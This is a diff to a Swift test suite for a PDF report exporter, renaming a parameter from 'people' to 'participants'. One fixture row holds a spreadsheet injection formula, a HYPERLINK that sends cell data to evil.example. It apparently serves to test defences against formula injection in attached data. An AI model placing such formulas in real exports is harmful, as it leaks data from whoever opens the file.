@@ -6,7 +6,7 @@ import Testing
 @Suite(.enabled(if: PDFTools.areThere)) struct PrintedExportTests {
   /// Builds a project of participants and rows of theirs as PDF files, and gives the output folder.
   private func print(
-    _ folder: URL, _ report: String, body: String, people: String,
+    _ folder: URL, _ report: String, body: String, participants: String,
     rows: String = "id,date,steps,note\n",
     status: Int32 = 0
   ) throws -> URL {
@@ -30,7 +30,7 @@ import Testing
       \(body)</body></html>
       """
     for (name, text) in [
-      "reportgen.yml": project, "letter.xhtml": template, "participants.csv": people,
+      "reportgen.yml": project, "letter.xhtml": template, "participants.csv": participants,
       "daily.csv": rows,
     ] { try Data(text.utf8).write(to: folder.appending(path: name)) }
     let program = try #require(builtProgram(), "the program is not built beside the tests")
@@ -43,17 +43,17 @@ import Testing
     async throws
   {
     try await ProjectTests.withFolder { folder in
-      let remark = Array(repeating: "a remark of several lines", count: 10).joined(separator: " ")
+      let notice = Array(repeating: "a remark of several lines", count: 10).joined(separator: " ")
       let rows = (0..<150).map { row in
         let day = String(format: "2026-%02d-%02d", 6 + row / 30, 1 + row % 30)
-        return "P1,\(day),\(1000 + row),row \(row)\(row % 17 == 3 ? " with " + remark : "")"
+        return "P1,\(day),\(1000 + row),row \(row)\(row % 17 == 3 ? " with " + notice : "")"
       }
       let out = try print(
         folder, "print: { paper: A4 }",
         body: """
           <rg:table data="all" columns="date steps note" caption="All days" total="sum"/><p>The end.</p>
           """,
-        people: "id,name\nP1,Ana\n",
+        participants: "id,name\nP1,Ana\n",
         rows: "id,date,steps,note\n" + rows.joined(separator: "\n") + "\n")
       let file = out.appending(path: "P1.pdf")
       let pages = try runProcess("pdftotext", ["-layout", file.path(), "-"]).output
@@ -81,10 +81,10 @@ import Testing
     ])
   func `a password is the code as it stands in the file`(codes: [String]) async throws {
     try await ProjectTests.withFolder { folder in
-      let people = codes.enumerated().map { "P\($0.offset),Ana,\"\($0.element)\"\n" }.joined()
+      let participants = codes.enumerated().map { "P\($0.offset),Ana,\"\($0.element)\"\n" }.joined()
       let out = try print(
         folder, "pdf: { password: code }", body: "<p>Words</p>",
-        people: "id,name,code\n" + people + "P9,Ben,\n", status: 1)
+        participants: "id,name,code\n" + participants + "P9,Ben,\n", status: 1)
       for place in codes.indices {
         for (other, code) in codes.enumerated() {
           let opened = try runProcess(
@@ -106,7 +106,7 @@ import Testing
     try await ProjectTests.withFolder { folder in
       let out = try print(
         folder, "pdf: { attach: { all: [date, steps, note] } }", body: "<p>Words</p>",
-        people: "id,name\nP1,Ana\n",
+        participants: "id,name\nP1,Ana\n",
         rows: #"""
           id,date,steps,note
           P1,2026-11-02,-5,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"
@@ -154,7 +154,7 @@ import Testing
           <rg:table data="all" columns="date steps note" caption="{{ participant.name }}"/>
           <table><caption>Own</caption><tbody><tr><th scope="row">Name</th><td>{{ participant.clinic }}</td></tr></tbody></table>
           """,
-        people: "id,name,clinic\nP1,\(name),\(clinic)\n",
+        participants: "id,name,clinic\nP1,\(name),\(clinic)\n",
         rows: "id,date,steps,note\nP1,2026-11-02,1000,\(clinic)\n")
       let boxes = try runProcess(
         "pdftotext", ["-bbox", out.appending(path: "P1.pdf").path(), "-"]
